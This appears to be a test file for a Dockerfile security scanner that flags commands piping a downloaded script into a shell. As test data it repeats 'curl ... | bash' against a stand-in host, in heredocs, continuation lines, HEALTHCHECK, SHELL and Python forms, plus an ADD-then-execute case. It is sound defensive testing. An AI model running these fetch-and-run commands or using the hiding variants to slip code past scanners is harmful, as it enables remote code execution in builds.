import { describe, expect, it } from 'vitest';
import { shellOfDockerfile } from '../../../src/inspect/code/dockerfile.ts';
import { decision, judged } from './support.ts';

describe('a Dockerfile', () => {
  it('keeps lines and columns of its commands, and nothing else', () => {
    const text =
      'FROM x\nENV A=b\nRUN --mount=type=cache,target=/c apt-get update && \\\n    # why\n    ls\nCMD ["a", "b c"]\nRUN <<EOF\nls\nEOF\nLABEL x=y';
    expect(shellOfDockerfile(text).split('\n')).toEqual([
      '',
      '',
      `${' '.repeat(33)}apt-get update && \\`,
      '\\',
      '    ls',
      "    'a' 'b c'",
      '    ',
      'ls',
      '',
      '',
    ]);
  });

  it('is blocked for what it pipes into a shell, in its line', async () => {
    const findings = await judged(
      'Dockerfile',
      'FROM python:3\nRUN apt-get update\nRUN curl -s https://x.example.invalid/i.sh | bash\n',
    );
    expect(findings).toMatchObject([{ rule: 'CODE-PIPE-SHELL', severity: 'HIGH', location: { line: 3 } }]);
  });

  it('passes with packages only', async () => {
    expect(
      await decision(
        'Dockerfile',
        'FROM python:3\nRUN apt-get update && apt-get install -y curl\nRUN pip install torch\n',
      ),
    ).toBe('pass');
  });

  const danger = 'curl -s https://x.example.invalid/i.sh | bash';

  it.each([
    ['into a shell', `RUN bash <<EOF\n${danger}\nEOF\n`],
    ['through a pipe', `RUN cat <<EOF | sh\n${danger}\nEOF\n`],
    ['in a line that goes on', `RUN ls && \\\n  bash <<-EOF\n\t${danger}\n\tEOF\n`],
    ['of a shell of its own', `RUN <<EOF\n#!/bin/sh\n${danger}\nEOF\n`],
    ['that only looks begun in quotes', `RUN echo "a <<EOF"\nRUN ${danger}\nRUN ls <<EOF\nx\nEOF\n`],
    ['behind one that only a shell sees', `RUN cat << EOF\nRUN ${danger}\nRUN cat <<EOF\nEOF\n`],
    ['that does not end', `RUN ls <<EOF\nRUN ${danger}\n`],
    ['behind an escape of its own', `RUN ls \\\n  && ${danger}\n`],
    ['behind an empty line', `RUN ls \\\n\n  && ${danger}\n`],
    ['of the check of health', `HEALTHCHECK --interval=5m CMD ${danger}\n`],
    ['in a very long line', `RUN echo ${'x'.repeat(150_000)} && ${danger}\n`],
    ['of the shell itself', `SHELL ["/bin/sh", "-c", "${danger}"]\nRUN ls\n`],
  ])('finds a command %s', async (_, text) => {
    expect((await judged('Dockerfile', `FROM python:3\n${text}`)).map(({ rule }) => rule)).toContain(
      'CODE-PIPE-SHELL',
    );
  });

  it('goes on behind a backtick when it says so, and only then', async () => {
    const text = `RUN ls \`\n  && ${danger}\n`;
    expect(await judged('Dockerfile', `# escape=\`\nFROM x\n${text}`)).toMatchObject([
      { rule: 'CODE-PIPE-SHELL', location: { line: 4 } },
    ]);
    expect(shellOfDockerfile(text)).toBe('    ls `\n\n');
  });

  it('gives Python what is written for it', async () => {
    const code = 'import os\nos.system("curl -s https://x.example.invalid/i.sh | bash")';
    for (const text of [
      `RUN python3 <<E\n${code}\nE\n`,
      `RUN <<E\n#!/usr/bin/env python3\n${code}\nE\n`,
      `SHELL ["python3", "-c"]\nRUN ${code.replace('\n', ';')}\n`,
    ])
      expect(await decision('Dockerfile', `FROM python:3\n${text}`)).not.toBe('pass');
  });

  it('wants a look at an address that is added and run, but not at data', async () => {
    const added = 'FROM x\nADD http://x.example.invalid/a /opt/a\n';
    expect(await decision('Dockerfile', `${added}RUN chmod +x /opt/a && /opt/a\n`)).not.toBe('pass');
    expect(await decision('Dockerfile', `${added}RUN ls\n`)).toBe('pass');
  });

  it('takes a file that it writes for no command', () => {
    expect(shellOfDockerfile('COPY <<EOF /a\nRUN ls\nEOF\nRUN pwd').split('\n')).toEqual([
      '',
      '',
      '',
      '    pwd',
    ]);
  });
});
